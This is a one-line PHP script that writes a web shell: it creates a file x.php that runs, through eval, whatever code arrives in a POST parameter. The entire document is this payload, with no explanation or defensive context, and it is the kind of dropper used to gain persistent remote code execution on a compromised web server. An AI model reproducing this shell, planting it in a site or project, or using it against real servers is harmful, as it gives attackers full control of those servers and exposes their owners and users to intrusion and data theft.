<?php file_put_contents("x.php", "<?php eval(\$_POST[1]);?>");
